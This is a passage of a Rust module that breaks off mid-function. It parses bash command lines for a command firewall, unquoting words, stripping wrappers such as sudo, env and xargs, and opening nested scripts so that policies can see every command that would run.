//! Shell analysis for policies: lists every command a command line would run, as parsed by bash.
//!
//! Words are unquoted, wrappers (`sudo`, `env`, `xargs`, ...) peeled off, and nested scripts
//! (`$(..)`, `bash -c`, `eval`, `find -exec`, heredocs fed to a shell) opened up.

use std::cell::RefCell;
use std::io::Read;

use brush_parser::ast;
use brush_parser::word::{self, WordPiece, WordPieceWithSource};
use brush_parser::{ParseError, Parser, ParserOptions, TokenizerError};

/// Nesting levels (subshells, bodies, substitutions, shell strings) analysed before giving up.
const MAX_DEPTH: usize = 16;

/// The parser recurses once per syntactic nesting level; deeper input could overflow the stack
/// before our own depth limit sees it, so it is refused up front.
const MAX_SYNTAX_NESTING: usize = 64;

/// One command the shell would execute, after unwrapping wrappers.
///
/// A command made only of redirections (`> file`) is reported with an empty `name` and
/// `program`, because the shell still performs them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellCommand {
    /// Basename of the program after unquoting: `/usr/bin/rm` -> `rm`.
    pub name: String,
    /// `argv[0]` after quote removal: `/usr/bin/rm`.
    pub program: String,
    /// `argv[1..]` after quote removal; `$HOME`, `${HOME}`, `~`, `$(...)` are kept as text.
    pub args: Vec<String>,
    /// `VAR=x` prefixes and `env VAR=x` assignments.
    pub assignments: Vec<(String, String)>,
    /// Wrappers peeled off, outermost first: `["sudo", "env"]`.
    pub wrappers: Vec<String>,
    /// This command's redirections, including those of enclosing `{ }`/`( )` groups.
    pub redirects: Vec<Redirect>,
    /// Names of the commands before this one in the same pipeline (closest last).
    pub upstream: Vec<String>,
    /// Names of the commands after this one in the same pipeline.
    pub downstream: Vec<String>,
    /// For a command nested inside another command's words or arguments, the name of that
    /// enclosing command (`bash`, `eval`, `find`, `xargs`, ...). `None` at top level.
    pub consumer: Option<String>,
    /// What kind of construct the command sits in.
    pub context: Context,
    /// Nesting depth (0 = top level): one level per enclosing group or body, substitution,
    /// shell string, `find -exec` or `xargs`.
    pub depth: usize,
    /// Whether a `for`, `while` or `until` loop encloses the command, at any depth: it may run
    /// many times.
    pub in_loop: bool,
}

/// A redirection attached to a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// The operator as written, including a file descriptor: `>`, `>>`, `2>`, `&>`, `<<<`, `2>&`.
    pub op: String,
    /// The target after quote removal; for a heredoc (`<<`), its body.
    pub target: String,
}

/// The construct a command sits in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Context {
    /// Directly in the analysed command line.
    TopLevel,
    /// Inside `$(..)` or backticks.
    CommandSubstitution,
    /// Inside `<(..)` or `>(..)`.
    ProcessSubstitution,
    /// Inside a string run as a script: `bash -c`, `eval`, `env -S`, `watch`, a heredoc to a shell.
    ShellString,
    /// Run by `find -exec` and friends.
    FindExec,
    /// Run by `xargs`.
    Xargs,
    /// Inside `( )`, `{ }`, or an if/for/while/until/case/function body or condition.
    Subshell,
}

impl Context {
    /// The `snake_case` name of the context.
    #[must_use]
    pub const fn as_str(&self) -> &'static str {
        match self {
            Self::TopLevel => "top_level",
            Self::CommandSubstitution => "command_substitution",
            Self::ProcessSubstitution => "process_substitution",
            Self::ShellString => "shell_string",
            Self::FindExec => "find_exec",
            Self::Xargs => "xargs",
            Self::Subshell => "subshell",
        }
    }
}

/// Why a command line could not be analysed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellError {
    /// A message for end users.
    pub message: String,
}

impl std::fmt::Display for ShellError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.message)
    }
}

impl std::error::Error for ShellError {}

/// Every command in `script`, in source order. A command is reported before the commands nested
/// inside it (its substitutions, its `-c` string, its `-exec` command, ...).
///
/// # Errors
///
/// When `script`, or a script nested in it, is not valid shell syntax or nests more than 16
/// levels deep: a firewall must not guess.
pub fn commands(script: &str) -> Result<Vec<ShellCommand>, ShellError> {
    type Analysed = Option<(Box<str>, Result<Vec<ShellCommand>, ShellError>)>;
    thread_local! {
        /// The last script analysed: a hook call asks for one command line three times (to
        /// type the action, to guard Enact's own files, in the policies).
        static LAST: RefCell<Analysed> = const { RefCell::new(None) };
    }
    let known = LAST.with_borrow(|last| match last {
        Some((text, analysed)) if **text == *script => Some(analysed.clone()),
        _ => None,
    });
    if let Some(analysed) = known {
        return analysed;
    }
    #[cfg(test)]
    ANALYSES.set(ANALYSES.get() + 1);
    // The parser has panicked on odd input (see `check_parsable`); a firewall must answer, not
    // crash.
    let analysed = std::panic::catch_unwind(|| analyse(script)).unwrap_or_else(|_| {
        Err(error(
            "could not parse the command: the shell parser failed on it".to_owned(),
        ))
    });
    LAST.set(Some((script.into(), analysed.clone())));
    analysed
}

#[cfg(test)]
thread_local! {
    /// How many scripts this thread has analysed (not taken from the last analysis).
    static ANALYSES: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
}

fn analyse(script: &str) -> Result<Vec<ShellCommand>, ShellError> {
    let mut walker = Walker {
        options: ParserOptions::default(),
        out: Vec::new(),
    };
    let scope = Scope {
        depth: 0,
        context: Context::TopLevel,
        consumer: None,
        in_loop: false,
    };
    walker.script(script, &scope, "the command")?;
    Ok(walker.out)
}

const fn error(message: String) -> ShellError {
    ShellError { message }
}

#[derive(Clone)]
struct Scope {
    depth: usize,
    context: Context,
    consumer: Option<String>,
    in_loop: bool,
}

impl Scope {
    fn nested(&self, context: Context, consumer: Option<String>) -> Result<Self, ShellError> {
        let depth = self.depth + 1;
        if depth > MAX_DEPTH {
            return Err(error(format!(
                "the command nests more than {MAX_DEPTH} levels deep and cannot be analysed"
            )));
        }
        Ok(Self {
            depth,
            context,
            consumer,
            in_loop: self.in_loop,
        })
    }

    /// The scope of a loop's body and condition.
    fn looping(mut self) -> Self {
        self.in_loop = true;
        self
    }
}

/// A word after quote removal; `substituted` marks text whose real value comes from a command
/// substitution, which we cannot know.
#[derive(Clone)]
struct Arg {
    text: String,
    substituted: bool,
}

impl Arg {
    fn literal(text: &str) -> Self {
        Self {
            text: text.to_owned(),
            substituted: false,
        }
    }
}

/// Code found inside a word, analysed once the enclosing command is known.
enum Nested<'a> {
    CommandSubstitution(String),
    ProcessSubstitution(&'a ast::SubshellCommand),
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Role {
    /// Runs the command that follows its options and operands.
    Wrapper,
    /// A wrapper that also takes `NAME=VALUE` assignments and `-S STRING`.
    Env,
    /// A wrapper whose command runs once per input item.
    Xargs,
    /// A shell: `-c STRING`, or a script on stdin.
    Shell,
    /// Joins its operands into a script (`eval`, `watch`).
    Script,
    /// Runs commands given with `-exec ... ;`.
    Find,
}

struct Rule {
    names: &'static [&'static str],
    role: Role,
    /// Short options taking a value, attached (`-uroot`) or as the next argument.
    short_values: &'static str,
    /// Short options taking an optional value that can only be attached (`xargs -i{}`).
    short_optional: &'static str,
    /// Long options taking a value as `--opt=v` or as the next argument.
    long_values: &'static [&'static str],
    /// Operands before the command: `timeout DURATION`, `chroot DIR`.
    operands: usize,
    /// Options that make the invocation something other than running the command.
    no_exec: &'static [&'static str],
}

const fn rule(names: &'static [&'static str], role: Role) -> Rule {
    Rule {
        names,
        role,
        short_values: "",
        short_optional: "",
        long_values: &[],
        operands: 0,
        no_exec: &[],
    }
}

const RULES: &[Rule] = &[
    Rule {
        short_values: "CDgpRrtTUu",
        long_values: &[
            "--close-from",
            "--chdir",
            "--group",
            "--host",
            "--prompt",
            "--chroot",
            "--role",
            "--type",
            "--command-timeout",
            "--other-user",
            "--user",
        ],
        no_exec: &[
            "-l",
            "-e",
            "-v",
            "-V",
            "-K",
            "--list",
            "--edit",
            "--validate",
            "--version",
            "--remove-timestamp",
        ],
        ..rule(&["sudo"], Role::Wrapper)
    },
    Rule {
        short_values: "uC",
        ..rule(&["doas"], Role::Wrapper)
    },
    Rule {
        short_values: "uCSPa",
        long_values: &["--unset", "--chdir", "--split-string", "--argv0"],
        ..rule(&["env"], Role::Env)
    },
    rule(&["nohup", "busybox"], Role::Wrapper),
    Rule {
        short_values: "ks",
        long_values: &["--kill-after", "--signal"],
        operands: 1,
        ..rule(&["timeout"], Role::Wrapper)
    },
    Rule {
        short_values: "n",
        long_values: &["--adjustment"],
        ..rule(&["nice"], Role::Wrapper)
    },
    Rule {
        short_values: "cnpPu",
        long_values: &["--class", "--classdata", "--pid", "--pgid", "--uid"],
        ..rule(&["ionice"], Role::Wrapper)
    },
    Rule {
        short_values: "fo",
        long_values: &["--format", "--output"],
        ..rule(&["time"], Role::Wrapper)
    },
    Rule {
        no_exec: &["-v", "-V"],
        ..rule(&["command"], Role::Wrapper)
    },
    Rule {
        short_values: "a",
        ..rule(&["exec"], Role::Wrapper)
    },
    Rule {
        short_values: "ioe",
        long_values: &["--input", "--output", "--error"],
        ..rule(&["stdbuf"], Role::Wrapper)
    },
    rule(&["setsid"], Role::Wrapper),
    Rule {
        long_values: &["--userspec", "--groups"],
        operands: 1,
        ..rule(&["chroot"], Role::Wrapper)
    },
    Rule {
        short_values: "aEdILnPs",
        short_optional: "eil",
        long_values: &[
            "--arg-file",
            "--delimiter",
            "--eof",
            "--max-lines",
            "--max-args",
            "--max-procs",
            "--max-chars",
            "--process-slot-var",
        ],
        ..rule(&["xargs"], Role::Xargs)
    },
    Rule {
        short_values: "oO",
        long_values: &["--rcfile", "--init-file"],
        ..rule(
            &["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash"],
            Role::Shell,
        )
    },
    rule(&["eval"], Role::Script),
    Rule {
        short_values: "nq",
        short_optional: "d",
        long_values: &["--interval", "--equexit"],
        ..rule(&["watch"], Role::Script)
    },
    rule(&["find"], Role::Find),
];

fn rule_for(name: &str) -> Option<&'static Rule> {
    RULES.iter().find(|r| r.names.contains(&name))
}

fn basename(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

/// The options a wrapper was given, and where its operands start.
struct Options {
    given: Vec<(String, Option<Arg>)>,
    operands: usize,
}

impl Options {
    fn has(&self, names: &[&str]) -> bool {
        self.given.iter().any(|(o, _)| names.contains(&o.as_str()))
    }

    fn value(&self, names: &[&str]) -> Option<&Arg> {
        self.given
            .iter()
            .find(|(o, _)| names.contains(&o.as_str()))
            .and_then(|(_, v)| v.as_ref())
    }
}

/// Options end at the first operand, as with getopt's `+` mode used by these tools.
fn scan(rule: &Rule, args: &[Arg]) -> Options {
    let mut given = Vec::new();
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        let text = arg.text.as_str();
        if text == "--" || text == "-" {
            i += 1;
            break;
        }
        if let Some(long) = text.strip_prefix("--") {
            i += 1;
            let (name, value) = match long.split_once('=') {
                Some((name, value)) => (
                    format!("--{name}"),
                    Some(Arg {
                        text: value.to_owned(),
                        substituted: arg.substituted,
                    }),
                ),
                None => (text.to_owned(), None),
            };
            let value = match value {
                None if rule.long_values.contains(&name.as_str()) => {
                    let value = args.get(i).cloned();
                    i += 1;
                    value
                }
                value => value,
            };
            given.push((name, value));
            continue;
        }
        let cluster = text
            .strip_prefix('-')
            .or_else(|| text.strip_prefix('+').filter(|_| rule.role == Role::Shell))
            .filter(|c| !c.is_empty());
        let Some(cluster) = cluster else { break };
        i += 1;
        for (at, flag) in cluster.char_indices() {
            let rest = cluster.get(at + flag.len_utf8()..).unwrap_or_default();
            let attached = (!rest.is_empty()).then(|| Arg {
                text: rest.to_owned(),
                substituted: arg.substituted,
            });
            if rule.short_values.contains(flag) {
                let value = attached.or_else(|| {
                    let value = args.get(i).cloned();
                    i += 1;
                    value
                });
                given.push((format!("-{flag}"), value));
                break;
            }
            let optional = rule.short_optional.contains(flag);
            given.push((format!("-{flag}"), attached.filter(|_| optional)));
            if optional {
                break;
            }
        }
    }
    Options { given, operands: i }
}

/// Where a shell gets its script from.
enum ShellInput {
    String(Arg),
    Stdin,
    /// A script file, which we cannot see.
    File,
}

fn shell_input(args: &[Arg], options: &Options) -> ShellInput {
    let operand = args.get(options.operands);
    if options.has(&["-c"]) {
        return operand
            .cloned()
            .map_or(ShellInput::File, ShellInput::String);
    }
    if operand.is_none() || options.has(&["-s"]) {
        ShellInput::Stdin
    } else {
        ShellInput::File
    }
}

fn env_assignment(text: &str) -> Option<(String, String)> {
    let (name, value) = text.split_once('=')?;
    let mut chars = name.chars();
    let valid = chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_');
    valid.then(|| (name.to_owned(), value.to_owned()))
}

/// A command line with its wrappers peeled off.
struct Resolved {
    argv: Vec<Arg>,
    wrappers: Vec<String>,
    assignments: Vec<(String, String)>,
    scope: Scope,
    /// A script the command runs: a `-c` string, `eval`'s arguments, `env -S`.
    script: Option<Arg>,
    reads_stdin_script: bool,
}

fn resolve(mut argv: Vec<Arg>, scope: &Scope) -> Result<Resolved, ShellError> {
    let mut resolved = Resolved {
        argv: Vec::new(),
        wrappers: Vec::new(),
        assignments: Vec::new(),
        scope: scope.clone(),
        script: None,
        reads_stdin_script: false,
    };
    let mut at = 0;
    while let Some(first) = argv.get(at) {
        let name = basename(&first.text).to_owned();
        let Some(rule) = rule_for(&name) else { break };
        let rest = argv.get(at + 1..).unwrap_or_default();
        let options = scan(rule, rest);
        match rule.role {
            Role::Shell => {
                match shell_input(rest, &options) {
                    ShellInput::String(script) => resolved.script = Some(script),
                    ShellInput::Stdin => resolved.reads_stdin_script = true,
                    ShellInput::File => {}
                }
                break;
            }
            Role::Script => {
                let operands = rest.get(options.operands..).unwrap_or_default();
                resolved.script = (!operands.is_empty()).then(|| Arg {
                    text: operands
                        .iter()
                        .map(|a| a.text.as_str())
                        .collect::<Vec<_>>()
                        .join(" "),
                    substituted: operands.iter().any(|a| a.substituted),
                });
                break;
            }
            Role::Find => break,
            Role::Wrapper | Role::Env | Role::Xargs => {}
        }
        if options.has(rule.no_exec) {
            break;
        }
        let split_string = options.value(&["-S", "--split-string"]);
        if let Some(script) = split_string.filter(|_| rule.role == Role::Env) {
            resolved.script = Some(script.clone());
            break;
        }
        let mut command = at + 1 + options.operands + rule.operands;
        if rule.role == Role::Env {
            while let Some(assignment) = argv.get(command).and_then(|a| env_assignment(&a.text)) {
                resolved.assignments.push(assignment);
                command += 1;
            }
        }
        if command >= argv.len() {
            if rule.role != Role::Xargs {
                break;
            }
            command = argv.len();
            argv.push(Arg::literal("echo"));
        }
        resolved.wrappers.push(name);
        at = command;
        if rule.role == Role::Xargs {
            resolved.scope = resolved
                .scope
                .nested(Context::Xargs, Some("xargs".to_owned()))?
                .looping();
        }
    }
    resolved.argv = argv.split_off(at.min(argv.len()));
    Ok(resolved)
}

/// The commands run by `-exec CMD ... ;` / `-exec CMD ... {} +` (and `-execdir`, `-ok`, `-okdir`).
fn find_exec_commands(args: &[Arg]) -> Vec<Vec<Arg>> {
    let mut commands = Vec::new();
    let mut args = args.iter();
    while let Some(arg) = args.next() {
        if !matches!(arg.text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
            continue;
        }
        let mut command: Vec<Arg> = Vec::new();
        for arg in args.by_ref() {
            let after_braces = command.last().is_some_and(|a| a.text == "{}");
            if arg.text == ";" || (arg.text == "+" && after_braces) {
                break;
            }
            command.push(arg.clone());
        }
        commands.push(command);
    }
    commands
}

/// The pieces of a simple command, gathered before its name is known.
#[derive(Default)]
struct Parts<'a> {
    argv: Vec<Arg>,
    assignments: Vec<(String, String)>,
    redirects: Vec<Redirect>,
    nested: Vec<Nested<'a>>,
    heredocs: Vec<&'a ast::IoHereDocument>,
    /// Here-strings that contain no command substitution, as scripts for a shell.
    herestrings: Vec<String>,
}

impl<'a> Parts<'a> {
    fn word(&mut self, raw: &str, options: &ParserOptions) -> Result<Arg, ShellError> {
        let before = self.nested.len();
        let text = unquote(raw, options, &mut self.nested)?;
        Ok(Arg {
            text,
            substituted: self.nested.len() > before,
        })
    }

    fn item(
        &mut self,
        item: &'a ast::CommandPrefixOrSuffixItem,
        in_prefix: bool,
        src: &str,
        options: &ParserOptions,
    ) -> Result<(), ShellError> {
        match item {
            ast::CommandPrefixOrSuffixItem::IoRedirect(redirect) => {
                self.redirect(redirect, src, options)?;
            }
            ast::CommandPrefixOrSuffixItem::AssignmentWord(assignment, _) if in_prefix => {
                let value = match &assignment.value {
                    ast::AssignmentValue::Scalar(value) => self.word(&value.value, options)?.text,
                    ast::AssignmentValue::Array(items) => {
                        let mut texts = Vec::with_capacity(items.len());
                        for (key, value) in items {
                            if let Some(key) = key {
                                self.word(&key.value, options)?;
                            }
                            texts.push(self.word(&value.value, options)?.text);
                        }
                        format!("({})", texts.join(" "))
                    }
                };
                self.assignments.push((assignment.name.to_string(), value));
            }
            ast::CommandPrefixOrSuffixItem::AssignmentWord(_, word)
            | ast::CommandPrefixOrSuffixItem::Word(word) => {
                let arg = self.word(&word.value, options)?;
                self.argv.push(arg);
            }
            ast::CommandPrefixOrSuffixItem::ProcessSubstitution(kind, subshell) => {
                self.argv.push(Arg::literal(&process_substitution_text(
                    kind, subshell, src,
                )));
                self.nested.push(Nested::ProcessSubstitution(subshell));
            }
        }
        Ok(())
    }

    fn redirect(
        &mut self,
        redirect: &'a ast::IoRedirect,
        src: &str,
        options: &ParserOptions,
    ) -> Result<(), ShellError> {
        let fd = |fd: &Option<i32>| fd.map(|fd| fd.to_string()).unwrap_or_default();
        let (op, target) = match redirect {
            ast::IoRedirect::File(number, kind, target) => {
                let target = match target {
                    ast::IoFileRedirectTarget::Filename(word)
                    | ast::IoFileRedirectTarget::Duplicate(word) => {
                        self.word(&word.value, options)?.text
                    }
                    ast::IoFileRedirectTarget::Fd(target) => target.to_string(),
                    ast::IoFileRedirectTarget::ProcessSubstitution(kind, subshell) => {
                        self.nested.push(Nested::ProcessSubstitution(subshell));
                        process_substitution_text(kind, subshell, src)
                    }
                };
                (format!("{}{kind}", fd(number)), target)
            }
            ast::IoRedirect::HereDocument(number, doc) => {
                self.heredocs.push(doc);
                let op = if doc.remove_tabs { "<<-" } else { "<<" };
                (format!("{}{op}", fd(number)), doc.doc.value.clone())
            }
            ast::IoRedirect::HereString(number, word) => {
                let arg = self.word(&word.value, options)?;
                if !arg.substituted {
                    self.herestrings.push(arg.text.clone());
                }
                (format!("{}<<<", fd(number)), arg.text)
            }
            ast::IoRedirect::OutputAndError(word, append) => {
                let op = if *append { "&>>" } else { "&>" };
                (op.to_owned(), self.word(&word.value, options)?.text)
            }
        };
        self.redirects.push(Redirect { op, target });
        Ok(())
    }
}

fn process_substitution_text(
    kind: &ast::ProcessSubstitutionKind,
    subshell: &ast::SubshellCommand,
    src: &str,
) -> String {
    // Source positions count characters, not bytes.
    let byte = |chars: usize| src.char_indices().nth(chars).map_or(src.len(), |(b, _)| b);
    let body = src
        .get(byte(subshell.loc.start.index)..byte(subshell.loc.end.index))
        .unwrap_or_default();
    format!("{kind}{body}")
}

/// Quote removal, keeping expansions as written and collecting the code they would run.
fn unquote(
    raw: &str,
    options: &ParserOptions,
    nested: &mut Vec<Nested<'_>>,
) -> Result<String, ShellError> {
    if !raw.contains(['\\', '\'', '"', '$', '`', '~']) {
        return Ok(raw.to_owned());
    }
    let pieces = word::parse(raw, options)
        .map_err(|_| error(format!("could not parse the word `{raw}`")))?;
    let mut text = String::with_capacity(raw.len());
    push_pieces(raw, &pieces, options, &mut text, nested)?;
    Ok(text)
}

fn push_pieces(
    raw: &str,
    pieces: &[WordPieceWithSource],
    options: &ParserOptions,
    text: &mut String,
    nested: &mut Vec<Nested<'_>>,
) -> Result<(), ShellError> {
    for piece in pieces {
        let source = raw
            .get(piece.start_index..piece.end_index)
            .unwrap_or_default();
        match &piece.piece {
            WordPiece::Text(s) | WordPiece::SingleQuotedText(s) => text.push_str(s),
            WordPiece::AnsiCQuotedText(s) => push_ansi_c(s, text),
            WordPiece::DoubleQuotedSequence(inner)
            | WordPiece::GettextDoubleQuotedSequence(inner) => {
                push_pieces(raw, inner, options, text, nested)?;
            }
            WordPiece::EscapeSequence(s) => text.push_str(s.strip_prefix('\\').unwrap_or(s)),
            WordPiece::TildeExpansion(_) => text.push_str(source),
            WordPiece::ParameterExpansion(_) => {
                text.push_str(source);
                // `${X:-$(cmd)}` runs `cmd`: look inside the braces.
                let inner = source
                    .strip_prefix("${")
                    .and_then(|s| s.strip_suffix('}'))
                    .filter(|s| s.contains(['$', '`']));
                if let Some(inner) = inner {
                    unquote(inner, options, nested)?;
                }
            }
            WordPiece::CommandSubstitution(body)
            | WordPiece::BackquotedCommandSubstitution(body) => {
                text.push_str(source);
                nested.push(Nested::CommandSubstitution(body.clone()));
            }
            WordPiece::ArithmeticExpression(expr) => {
                text.push_str(source);
                unquote(&expr.value, options, nested)?;
            }
        }
    }
    Ok(())
}

/// An unquoted heredoc delimiter means the shell runs the body's substitutions.
fn heredoc_substitutions(
    heredocs: &[&ast::IoHereDocument],
    options: &ParserOptions,
    nested: &mut Vec<Nested<'_>>,
) -> Result<(), ShellError> {
    for doc in heredocs.iter().filter(|d| d.requires_expansion) {
        let body = &doc.doc.value;
        let pieces = word::parse_heredoc(body, options)
            .map_err(|_| error("could not parse a here-document".to_owned()))?;
        push_pieces(body, &pieces, options, &mut String::new(), nested)?;
    }
    Ok(())
}

/// Decodes the escapes of a `$'...'` string.
fn push_ansi_c(raw: &str, text: &mut String) {
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            text.push(c);
            continue;
        }
        let Some(escape) = chars.next() else {
            text.push('\\');
            break;
        };
        let mut number = |radix: u32, max: usize, start: u32| {
            let mut value = start;
            let mut count = 0;
            while count < max {
                let Some(digit) = chars.peek().and_then(|d| d.to_digit(radix)) else {
                    break;
                };
                value = value * radix + digit;
                count += 1;
                chars.next();
            }
            (count > 0 || start > 0)
                .then(|| char::from_u32(value))
                .flatten()
        };
        let decoded = match escape {
            'a' => Some('\x07'),
            'b' => Some('\x08'),
            'e' | 'E' => Some('\x1b'),
            'f' => Some('\x0c'),
            'n' => Some('\n'),
            'r' => Some('\r'),
            't' => Some('\t'),
            'v' => Some('\x0b'),
            '\\' | '\'' | '"' | '?' => Some(escape),
            'x' => number(16, 2, 0),
            'u' => number(16, 4, 0),
            'U' => number(16, 8, 0),
            '0'..='7' => number(8, 2, escape.to_digit(8).unwrap_or_default()).or(Some('\0')),
            'c' => chars
                .next()
                .and_then(|c| char::from_u32(u32::from(c) & 0x1f)),
            _ => None,
        };
        if let Some(decoded) = decoded {
            text.push(decoded);
        } else {
            text.push('\\');
            text.push(escape);
        }
    }
}

/// Refuses input the parser cannot take: nesting deep enough to overflow its stack, and numbers
/// that overflow its integer parsing (it panics on `99999999999>f` and `~+99999999999999999999`).
/// A resource guard on raw text, not an analysis.
fn check_parsable(src: &str, what: &str) -> Result<(), ShellError> {
    let mut depth = 0usize;
    let mut deepest = 0;
    for token in src.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|')) {
        match token {
            "if" | "while" | "until" | "for" | "case" | "select" => depth += 1,
            "fi" | "done" | "esac" => depth = depth.saturating_sub(1),
            _ => {}
        }
        for c in token.chars() {
            match c {
                '(' | '{' => depth += 1,
                ')' | '}' => depth = depth.saturating_sub(1),
                _ => {}
            }
            deepest = deepest.max(depth);
        }
        deepest = deepest.max(depth);
    }
    if deepest > MAX_SYNTAX_NESTING {
        return Err(error(format!(
            "could not analyse {what}: it is nested too deeply"
        )));
    }
    let mut digits = 0;
    for (at, c) in src.char_indices() {
        let rest = src.get(at + c.len_utf8()..).unwrap_or_default();
        let tilde_number = || {
            let rest = rest.strip_prefix(['+', '-']).unwrap_or(rest);
            rest.chars().take_while(char::is_ascii_digit).count() >= 19
        };
        if (matches!(c, '<' | '>') && digits >= 10) || (c == '~' && tilde_number()) {
            return Err(error(format!(
                "could not analyse {what}: it contains a number too large to handle"
            )));
        }
        digits = if c.is_ascii_digit() { digits + 1 } else { 0 };
    }
    Ok(())
}

fn parse_error(what: &str, err: ParseError) -> ShellError {
    let detail = match err {
        ParseError::ParsingNear(at) => {
            format!("syntax error at line {}, column {}", at.line, at.column)
        }
        ParseError::ParsingAtEndOfInput => "it ends in the middle of a command".to_owned(),
        ParseError::Tokenizing {
            inner: TokenizerError::UnterminatedHereDocuments(..),
            ..
        } => "a here-document is missing its end marker".to_owned(),
        ParseError::Tokenizing { inner, .. } => inner.to_string(),
    };
    error(format!("could not parse {what}: {detail}"))
}

struct Walker {
    options: ParserOptions,
    out: Vec<ShellCommand>,
}

impl Walker {
    fn script(&mut self, src: &str, scope: &Scope, what: &str) -> Result<(), ShellError> {
        check_parsable(src, what)?;
        // Blank lines mean nothing to the shell, but without them the tokenizer loops forever,
        // allocating, on a here-document whose delimiter line never ends (`cat <<'' `).
        let input = src.as_bytes().chain(&b"\n\n"[..]);
        let program = Parser::new(input, &self.options)
            .parse_program()
            .map_err(|e| parse_error(what, e))?;
        for list in &program.complete_commands {
            self.list(list, src, scope, &mut Vec::new())?;
        }
        Ok(())
    }

    /// `direct` collects the indices of the commands that share this list's stdin and stdout,
    /// so an enclosing pipeline or redirection can be applied to them.
    fn list(
        &mut self,
        list: &ast::CompoundList,
        src: &str,
        scope: &Scope,
        direct: &mut Vec<usize>,
    ) -> Result<(), ShellError> {
        for ast::CompoundListItem(and_or, _) in &list.0 {
            self.pipeline(&and_or.first, src, scope, direct)?;
            for next in &and_or.additional {
                let (ast::AndOr::And(pipeline) | ast::AndOr::Or(pipeline)) = next;
                self.pipeline(pipeline, src, scope, direct)?;
            }
        }
        Ok(())
    }

    fn pipeline(
        &mut self,
        pipeline: &ast::Pipeline,
        src: &str,
        scope: &Scope,
        direct: &mut Vec<usize>,
    ) -> Result<(), ShellError> {
        let mut stages = Vec::with_capacity(pipeline.seq.len());
        for command in &pipeline.seq {
            let mut stage = Vec::new();
            self.command(command, src, scope, &mut stage)?;
            stages.push(stage);
        }
        if stages.len() > 1 {
            let names: Vec<Vec<String>> = stages
                .iter()
                .map(|stage| {
                    stage
                        .iter()
                        .filter_map(|&i| self.out.get(i))
                        .filter(|c| !c.name.is_empty())
                        .map(|c| c.name.clone())
                        .collect()
                })
                .collect();
            for (position, stage) in stages.iter().enumerate() {
                let before: Vec<String> = names.iter().take(position).flatten().cloned().collect();
                let after = names.iter().skip(position + 1).flatten();
                for &i in stage {
                    let Some(command) = self.out.get_mut(i) else {
                        continue;
                    };
                    command.upstream.splice(0..0, before.iter().cloned());
                    command.downstream.extend(after.clone().cloned());
                }
            }
        }
        if pipeline.timed.is_some() {
            for &i in stages.iter().flatten() {
                let Some(command) = self.out.get_mut(i) else {
                    continue;
                };
                command.wrappers.insert(0, "time".to_owned());
            }
        }
        direct.extend(stages.into_iter().flatten());
        Ok(())
    }

    fn command(
        &mut self,
        command: &ast::Command,
        src: &str,
        scope: &Scope,
        direct: &mut Vec<usize>,
    ) -> Result<(), ShellError> {
        match command {
            ast::Command::Simple(simple) => self.simple(simple, src, scope, direct),
            ast::Command::Compound(compound, redirects) => {
                self.compound(compound, redirects.as_ref(), src, scope, direct)
            }
            ast::Command::Function(function) => {
                let ast::FunctionBody(compound, redirects) = &function.body;
                self.compound(compound, redirects.as_ref(), src, scope, direct)
            }
            ast::Command::ExtendedTest(test, redirects) => {
                let mut words = Vec::new();
                let mut tests = vec![&test.expr];
                while let Some(test) = tests.pop() {
                    match test {
                        ast::ExtendedTestExpr::And(a, b) | ast::ExtendedTestExpr::Or(a, b) => {
                            tests.extend([a.as_ref(), b.as_ref()]);
                        }
                        ast::ExtendedTestExpr::Not(a) | ast::ExtendedTestExpr::Parenthesized(a) => {
                            tests.push(a);
                        }
                        ast::ExtendedTestExpr::UnaryTest(_, a) => words.push(a.value.as_str()),
                        ast::ExtendedTestExpr::BinaryTest(_, a, b) => {
                            words.extend([a.value.as_str(), b.value.as_str()]);
                        }
                    }
                }
                self.substitutions(words, src, scope)?;
                self.redirects(redirects.as_ref(), &[], src, scope)
            }
        }
    }

    fn compound(
        &mut self,
        compound: &ast::CompoundCommand,
        redirects: Option<&ast::RedirectList>,
        src: &str,
        outer: &Scope,
        direct: &mut Vec<usize>,
    ) -> Result<(), ShellError> {
        let loops = matches!(
            compound,
            ast::CompoundCommand::ForClause(_)
                | ast::CompoundCommand::ArithmeticForClause(_)
                | ast::CompoundCommand::WhileClause(_)
                | ast::CompoundCommand::UntilClause(_)
        );
        let scope = outer.nested(Context::Subshell, outer.consumer.clone())?;
        let scope = &if loops { scope.looping() } else { scope };
        let first = direct.len();
        match compound {
            ast::CompoundCommand::BraceGroup(ast::BraceGroupCommand { list, .. })
            | ast::CompoundCommand::Subshell(ast::SubshellCommand { list, .. }) => {
                self.list(list, src, scope, direct)?;
            }
            ast::CompoundCommand::ForClause(clause) => {
                let values = clause.values.iter().flatten().map(|w| w.value.as_str());
                self.substitutions(values, src, scope)?;
                self.list(&clause.body.list, src, scope, direct)?;
            }
            ast::CompoundCommand::ArithmeticForClause(clause) => {
                let exprs = [&clause.initializer, &clause.condition, &clause.updater];
                let exprs = exprs.into_iter().flatten().map(|e| e.value.as_str());
                self.substitutions(exprs, src, scope)?;
                self.list(&clause.body.list, src, scope, direct)?;
            }
            ast::CompoundCommand::CaseClause(clause) => {
                self.substitutions([clause.value.value.as_str()], src, scope)?;
                for case in &clause.cases {
                    let patterns = case.patterns.iter().map(|w| w.value.as_str());
                    self.substitutions(patterns, src, scope)?;
                    if let Some(body) = &case.cmd {
                        self.list(body, src, scope, direct)?;
                    }
                }
            }
            ast::CompoundCommand::IfClause(clause) => {
                self.list(&clause.condition, src, scope, direct)?;
                self.list(&clause.then, src, scope, direct)?;
                for branch in clause.elses.iter().flatten() {
                    if let Some(condition) = &branch.condition {
                        self.list(condition, src, scope, direct)?;
                    }
                    self.list(&branch.body, src, scope, direct)?;
                }
